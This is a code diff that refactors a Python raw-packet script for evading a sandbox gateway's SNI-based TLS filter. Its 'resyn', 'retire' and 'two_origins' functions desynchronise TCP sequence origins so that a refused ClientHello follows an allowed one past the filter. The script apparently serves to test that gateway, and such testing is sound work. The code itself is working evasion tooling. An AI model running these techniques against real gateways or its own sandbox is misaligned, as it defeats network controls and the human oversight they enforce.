@@ -51,20 +51,7 @@ RAW_MARK = 5   # the sandbox's ruleset lets only these resets out (t_gateway_raw
 ETH_P_IP = 0x0800
 
 
-def hello(sni, pad=0):
-    """A TLS 1.2/1.3 ClientHello in one record (as gw_attacks.py builds it)."""
-    lst = b"\x00" + struct.pack(">H", len(sni)) + sni.encode()
-    ext_sni = struct.pack(">HH", 0, len(lst) + 2) + struct.pack(">H", len(lst)) + lst
-    alpn = b"\x00\x10" + struct.pack(">H", 11) + struct.pack(">H", 9) + b"\x08http/1.1"
-    vers = b"\x00\x2b\x00\x05\x04\x03\x04\x03\x03"
-    groups = b"\x00\x0a\x00\x04\x00\x02\x00\x1d"
-    exts = ext_sni + alpn + vers + groups
-    if pad:
-        exts += struct.pack(">HH", 21, pad) + b"\x00" * pad
-    body = b"\x03\x03" + os.urandom(32) + b"\x00" + b"\x00\x04\x13\x01\x13\x02" + b"\x01\x00"
-    body += struct.pack(">H", len(exts)) + exts
-    hs = b"\x01" + struct.pack(">I", len(body))[1:] + body
-    return b"\x16\x03\x01" + struct.pack(">H", len(hs)) + hs
+from gw_attacks import hello   # the same ClientHello as the other attacks (same folder)
 
 
 def smuggle(host_ok, host_bad):
@@ -202,13 +189,9 @@ class Raw:
             self.send(seq, self.rack, RST | ACK)
 
 
-def resyn(iface, host, port, sni_ok, sni_bad, how):
-    bad, ok = hello(sni_bad), hello(sni_ok)
-    c = Raw(iface, host, port)
-    a = random.randint(1 << 20, 1 << 30)
-    c.handshake(a)
-    b = a + len(bad)   # the second origin: where the allowed hello starts
-    c.send(b, c.rack if how == "synack" else 0, SYN | (ACK if how == "synack" else 0))
+def two_origins(c, a, b, ok, bad):
+    """The allowed hello at the second origin b + 1, then the refused one at the
+    server's a + 1; what came back."""
     time.sleep(0.1)
     c.send(b + 1, c.rack, PSH | ACK, ok)
     time.sleep(0.3)
@@ -216,6 +199,16 @@ def resyn(iface, host, port, sni_ok, sni_bad, how):
     o = c.outcome(1.0)
     c.close(a + 1 + len(bad) + len(ok))
     return o
+
+
+def resyn(iface, host, port, sni_ok, sni_bad, how):
+    bad, ok = hello(sni_bad), hello(sni_ok)
+    c = Raw(iface, host, port)
+    a = random.randint(1 << 20, 1 << 30)
+    c.handshake(a)
+    b = a + len(bad)   # the second origin: where the allowed hello starts
+    c.send(b, c.rack if how == "synack" else 0, SYN | (ACK if how == "synack" else 0))
+    return two_origins(c, a, b, ok, bad)
 
 
 def urg_stream(iface, host, port, host_ok, host_bad, where):
@@ -252,13 +245,7 @@ def retire(iface, host, port, sni_ok, sni_bad, wait, how="ttl"):
     time.sleep(wait)
     b = a + len(bad)
     c.send(b, 0, SYN)
-    time.sleep(0.1)
-    c.send(b + 1, c.rack, PSH | ACK, ok)
-    time.sleep(0.3)
-    c.send(a + 1, c.rack, PSH | ACK, bad)
-    o = c.outcome(1.0)
-    c.close(a + 1 + len(bad) + len(ok))
-    return o
+    return two_origins(c, a, b, ok, bad)
 
 
 def noack(iface, host, port, sni_ok, sni_bad):
